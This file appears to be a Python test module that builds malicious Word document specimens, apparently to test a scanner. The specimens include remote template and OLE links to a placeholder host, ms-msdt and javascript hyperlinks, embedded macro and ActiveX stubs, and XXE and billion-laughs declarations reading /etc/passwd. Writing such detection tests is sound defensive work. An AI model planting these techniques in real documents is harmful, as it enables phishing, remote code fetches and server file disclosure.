"""Word documents that carry or fetch something: by relationship, by part, by type, by declaration."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial

from tests.attack.package import (
    DECLARED,
    MICROSOFT,
    OFFICE,
    PLAIN,
    ROOT,
    TYPES,
    Link,
    Parts,
    docx,
    links,
    para,
    run,
    types,
    word,
    xlsx,
    zipped,
)
from tests.attack.specimen import Specimen, made

OUT = "http://203.0.113.9/a"
SHARE = "file://203.0.113.9/a"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
VBA = "application/vnd.ms-office.vbaProject"
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (after, b"&%c;" % before * 20)
        for before, after in zip(b"abcdefgh", b"bcdefghi", strict=True)
    )
    + b"]>"
)
FILE = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE l SYSTEM "http://203.0.113.9/a.dtd">'
BARE = b'<?xml version="1.0"?><!DOCTYPE l>'
PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY % p SYSTEM "http://203.0.113.9/a.dtd"> %p;]>'
)


def _linked(*told: Link, **more: object) -> Parts:
    return docx(linked=told, **more)  # type: ignore[arg-type]


def _from(part: str, *told: Link) -> Parts:
    """A relationship of another part, or of a part that is not there."""
    folder, _slash, name = part.rpartition("/")
    return docx(more={f"{folder}/_rels/{name}.rels": links(*told)})


def _held(kind: str, name: str, body: bytes, content_type: str, target: str = "") -> Parts:
    """A part with a relationship and a type."""
    link = Link(kind, target or name.removeprefix("word/"))
    return docx(linked=(link,), more={name: body}, typed={name: content_type})


def _opened(part: str, head: bytes) -> Parts:
    """A declaration of entities at the head of a part."""
    body = docx()[part].partition(b"\n")[2]
    return docx(more={part: head + body})


def _item(body: bytes, name: str = "customXml/item1.xml") -> Parts:
    return docx(linked=(Link("customXml", f"../{name}"),), more={name: body})


def _rooted(*told: Link) -> Parts:
    return docx(more={ROOT: links(Link("officeDocument", "word/document.xml"), *told)})


EXTERNAL = {
    "template": _from("word/settings.xml", Link("attachedTemplate", f"{OUT}.dotm", "External")),
    "template on a share": _from("word/settings.xml", Link("attachedTemplate", SHARE, "External")),
    "template in the document": _linked(Link("attachedTemplate", "c:/a.dotm", "External")),
    "template, no mode": _from("word/settings.xml", Link("attachedTemplate", f"{OUT}.dotm")),
    "picture": _linked(Link("image", f"{OUT}.png", "External")),
    "picture on a share": _linked(Link("image", SHARE, "External")),
    "mode in small letters": _linked(Link("image", f"{OUT}.png", "external")),
    "mode by entity": _linked(Link("image", f"{OUT}.png", "&#69;xternal")),
    "address by entity": _linked(Link("oleObject", "h&#116;tp://203.0.113.9/a", "External")),
    "OLE link": _linked(Link("oleObject", f"{OUT}.html!", "External")),
    "part of a master document": _linked(Link("subDocument", "file:///a.docx", "External")),
    "frame": _from("word/webSettings.xml", Link("frame", f"{OUT}.html", "External")),
    "HTML chunk": _linked(Link("aFChunk", f"{OUT}.html", "External")),
    "mail merge": _from("word/settings.xml", Link("mailMergeSource", "file:///a.mdb", "External")),
    "style sheet of a transform": _from("word/settings.xml", Link("transform", f"{OUT}.xsl", "External")),
    "film": _linked(Link("video", f"{OUT}.mp4", "External")),
    "sound": _linked(Link("audio", f"{OUT}.wav", "External")),
    "strict OLE link": _linked(
        Link("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject", OUT, "External")),
    "unknown kind": _linked(Link("http://example.com/anything", OUT, "External")),
    "from the root": _rooted(Link("image", OUT, "External")),
    "from a part that is not there": _from("word/none.xml", Link("oleObject", OUT, "External")),
    "from a folder of its own": _from("odd/place/none.xml", Link("oleObject", OUT, "External")),
    "link with a script": _linked(Link("hyperlink", "javascript:alert(1)", "External")),
    "link with another script": _linked(Link("hyperlink", "vbscript:x", "External")),
    "link with a script, blanks": _linked(Link("hyperlink", "&#9;java&#10;script:alert(1)", "External")),
    "link to a program": _linked(Link("hyperlink", "file:///c:/windows/system32/calc.exe", "External")),
    "link to a share": _linked(Link("hyperlink", "\\\\203.0.113.9\\a", "External")),
    "link to a share, slashes": _linked(Link("hyperlink", "//203.0.113.9/a", "External")),
    "link to a handler": _linked(Link("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")),
    "link to a search": _linked(Link("hyperlink", "search-ms:query=a", "External")),
    "link with data": _linked(Link("hyperlink", "data:text/html;base64,PHNjcmlwdD4=", "External")),
    "link to Word": _linked(Link("hyperlink", f"ms-word:ofe|u|{OUT}", "External")),
    "link in MHTML": _linked(Link("hyperlink", f"mhtml:{OUT}!x", "External")),
}  # fmt: skip
DEVICE = f"{OFFICE}.oleObject"
HELD = {
    "macros": _held(f"{MICROSOFT}/vbaProject", "word/vbaProject.bin", OLE, VBA),
    "macros under another name": _held(f"{MICROSOFT}/vbaProject", "word/a.png", OLE, VBA),
    "macros by type alone": docx(more={"word/a.bin": OLE}, typed={"word/a.bin": VBA}),
    "macros by type of an ending": docx(more={"word/a.qqq": OLE}, defaults={"qqq": VBA}),
    "macros by link alone": docx(linked=(Link(f"{MICROSOFT}/vbaProject", "a.bin"),), more={"word/a.bin": OLE}),
    "macros that nothing names": docx(more={"word/a.bin": OLE + b"Attribute VB_Name"}, defaults={"bin": "application/x"}),
    "macro data": _held(f"{MICROSOFT}/wordVbaData", "word/d.xml", b"<a/>", "application/vnd.ms-word.vbaData+xml"),
    "key map": _held(f"{MICROSOFT}/keyMapCustomizations", "word/k.xml", b"<a/>",
                     "application/vnd.ms-word.keyMapCustomizations+xml"),
    "tool bars": _held(f"{MICROSOFT}/attachedToolbars", "word/t.bin", OLE, "application/vnd.ms-word.attachedToolbars"),
    "OLE object": _held("oleObject", "word/embeddings/o.bin", OLE, DEVICE),
    "OLE object in another folder": _held("oleObject", "word/objects/o.bin", OLE, DEVICE),
    "OLE object as package": _held("package", "word/objects/o.bin", OLE, DEVICE),
    "OLE object as picture": _held("image", "word/media/o.png", OLE, "image/png"),
    "package with a program": _held("package", "word/embeddings/p.bin", b"MZ" + b"\0" * 90, "application/octet-stream"),
    "document in the document": _held("package", "word/embeddings/d.docx", zipped(docx()),
                                      f"{OFFICE}.wordprocessingml.document"),
    "control": _held("control", "word/activeX/activeX1.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"),
    "control under another name": _held("control", "word/x/y.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"),
    "control's state": _held(f"{MICROSOFT}/activeXControlBinary", "word/x.bin", OLE, "application/vnd.ms-office.activeX"),
    "HTML chunk": _held("aFChunk", "word/a.html", b"<script>1</script>", "text/html"),
    "MHT chunk": _held("aFChunk", "word/a.mht", b"MIME-Version: 1.0", "message/rfc822"),
    "RTF chunk": _held("aFChunk", "word/a.rtf", b"{\\rtf1\\object}", "application/rtf"),
    "document chunk": _held("aFChunk", "word/a.docx", zipped(docx()), f"{OFFICE}.wordprocessingml.document.main+xml"),
    "web extension": _held(f"{MICROSOFT}/webextension".replace("2006", "2011"), "word/webextensions/w.xml", b"<a/>",
                           "application/vnd.ms-office.webextension+xml"),
    "web extension's pane": docx(more={
        "word/webextensions/taskpanes.xml": b"<a/>",
        ROOT: links(Link("officeDocument", "word/document.xml"),
                    Link(f"{MICROSOFT.replace('2006', '2011')}/webextensiontaskpanes",
                         "word/webextensions/taskpanes.xml"))},
        typed={"word/webextensions/taskpanes.xml": "application/vnd.ms-office.webextensiontaskpanes+xml"}),
    "own ribbon": docx(more={
        "customUI/customUI.xml": b'<customUI onLoad="x"/>',
        ROOT: links(Link("officeDocument", "word/document.xml"),
                    Link(f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml"))}),
    "picture that is a page": _held("image", "word/media/a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "image/svg+xml"),
    "picture that is a program": _held("image", "word/media/a.png", b"MZ" + b"\0" * 90, "image/png"),
    "font that is a program": _held("font", "word/fonts/f.odttf", b"MZ" + b"\0" * 90, "application/x-msdownload"),
    "film that is a page": docx(para(run(
        '<w:drawing><a:ext xmlns:a="a"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
        ' embeddedHtml="&lt;script&gt;1&lt;/script&gt;"/></a:ext></w:drawing>'))),
    "queries in an item": _item('<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'.encode("utf-16")),
    "mail merge in the settings": docx(more={"word/settings.xml": word(
        '<w:mailMerge><w:query w:val="select 1"/><w:connectString w:val="DSN=x"/></w:mailMerge>', "settings", "")}),
}  # fmt: skip
DECLARATIONS = {
    "billion laughs": _opened("word/document.xml", LAUGHS),
    "a file of the server": _opened("word/document.xml", FILE),
    "an address": _opened("word/document.xml", OUTSIDE),
    "a parameter": _opened("word/document.xml", PARAMETER),
    "in the styles": _opened("word/styles.xml", FILE),
    "in the settings": _opened("word/settings.xml", OUTSIDE),
    "in the relationships": _opened("word/_rels/document.xml.rels", FILE),
    "in the list of types": _opened(TYPES, LAUGHS),
    "in the properties": _opened("docProps/core.xml", FILE),
    "in an item": _item(BARE + b"<a/>"),
    "in an item in wide letters": _item((BARE + b"<a/>").decode().encode("utf-16")),
    "in an item in 32 bits": _item((BARE + b"<a/>").decode().encode("utf-32")),
    "in an item in EBCDIC": _item(b'<?xml version="1.0" encoding="cp037"?><!DOCTYPE l><a/>'.decode().encode("cp037")),
    "in a part called bin": docx(more={"word/doc.bin": FILE + b"<l>&i;</l>"},
                                 typed={"word/doc.bin": f"{OFFICE}.wordprocessingml.comments+xml"},
                                 linked=(Link("comments", "doc.bin"),)),
    "far into the part": docx(more={"word/styles.xml": b"<!--" + b" " * 300_000 + b"-->" + FILE[21:] + b"<l>&i;</l>"}),
}  # fmt: skip
NAMES = {
    "type of a document with macros": docx(typed={"word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
    "type of a template": docx(typed={"word/document.xml": f"{OFFICE}.wordprocessingml.template.main+xml"}),
    "type given by the ending": docx(typed={"word/document.xml": ""}, defaults={
        "xml": "application/vnd.ms-word.document.macroEnabledTemplate.main+xml"}),
    "type given twice": docx(more={TYPES: types({}, {"rels": "x"}).replace(b"</Types>", (
        f'<Override PartName="/word/document.xml" ContentType="{OFFICE}.wordprocessingml.document.main+xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    ).encode())}),
    "no types": docx(without=(TYPES,)),
    "no main part": docx(without=("word/document.xml",)),
    "no root": docx(without=(ROOT,)),
    "two main parts": _rooted(Link("officeDocument", "word/styles.xml")),
    "types in small letters as well": docx(more={"[content_types].XML": types({"word/document.xml": VBA}, {})}),
    "a workbook": xlsx(),
    "a slide show": docx(typed={"word/document.xml": f"{OFFICE}.presentationml.presentation.main+xml"}),
    "an open document": {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"},
    "an archive": {"a.txt": b"x", "b.exe": b"MZ"},
    "a Java archive": {"META-INF/MANIFEST.MF": b"Main-Class: a", "a.class": b"\xca\xfe\xba\xbe"},
    "no XML in it": docx(more={"word/document.xml": b"\x01\x02 no XML"}),
    "XML that ends early": docx(more={"word/document.xml": word(PLAIN)[:-9]}),
    "XML nested 200,000 deep": docx(more={"word/document.xml": word("<w:a>" * 200_000 + "</w:a>" * 200_000)}),
}  # fmt: skip
RAW: dict[str, Callable[[], bytes]] = {
    "an old document": lambda: OLE,
    "a web page": lambda: b"<html><script>1</script></html>",
    "rich text": lambda: b"{\\rtf1{\\object\\objautlink}}",
    "one flat XML": lambda: DECLARED + b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"/>',
    "a mail": lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>",
    "a program": lambda: b"MZ" + b"\0" * 500,
}  # fmt: skip


def specimens() -> Iterator[Specimen]:
    groups = {"outside": EXTERNAL, "held": HELD, "declared": DECLARATIONS, "odd": NAMES}
    for group, told in groups.items():
        yield from made(
            "docx", group, {what: partial(zipped, parts) for what, parts in told.items()}
        )
    yield from made("docx", "renamed", RAW)
